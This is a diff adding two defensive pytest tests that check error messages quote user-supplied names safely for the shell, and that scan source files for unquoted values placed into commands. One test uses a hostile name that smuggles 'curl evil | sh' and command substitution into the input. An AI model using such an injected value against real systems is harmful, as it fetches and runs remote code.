@@ -3,6 +3,7 @@
 import json
 import os
 import re
+import shlex
 import shutil
 import unicodedata
 from pathlib import Path
@@ -12,10 +13,12 @@ import numpy as np
 import polars as pl
 import pytest
 from fixtures.faults import row
-from fixtures.places import TESTS
+from fixtures.places import ROOT, TESTS
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from goalposts.agents.named_code import named_code
+from goalposts.envs.worlds.registry import get_world
 from goalposts.errors import UserError
 from goalposts.experiments.cli.main import main
 from goalposts.experiments.cli.tables import outcome_table
@@ -259,3 +262,31 @@ def test_a_notice_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
     notices.notice("TORCH_LOGS=\x1b[2J\nforged is ignored")
     assert not hidden(told[0])
     assert "\n" not in told[0]
+
+
+@row("A5")
+def test_a_command_in_a_message_can_be_pasted_whatever_a_file_names() -> None:
+    """A name in a file must not become further commands of the shell into which a reader pastes the remedy."""
+    name = "x:Y; curl evil | sh $(id) `id` &"
+    for look_up in (get_world, named_code):
+        with pytest.raises(UserError) as error:
+            look_up(name)
+        shown = str(error.value)
+        command = shown[shown.index("goalposts --") : shown.index(" … on the command line")]
+        assert shlex.split(command)[2:] == [name]
+
+
+@row("A5")
+def test_no_message_puts_an_unquoted_value_into_a_command() -> None:
+    """Names of studies are checked when they are read; everything else goes through `shown_command` or `shlex.quote`."""
+    unquoted = re.compile(
+        r"goalposts(?: --?[a-z]+| [a-z-]+)+ \{(?!shlex\.quote|study\.name\}|plan\.study\.name\})"
+    )
+    found = [
+        f"{path.relative_to(ROOT)}: {line.strip()}"
+        for folder in ("goalposts", "envs", "agents", "experiments")
+        for path in sorted((ROOT / folder).rglob("*.py"))
+        for line in path.read_text("utf-8").splitlines()
+        if unquoted.search(line)
+    ]
+    assert found == []
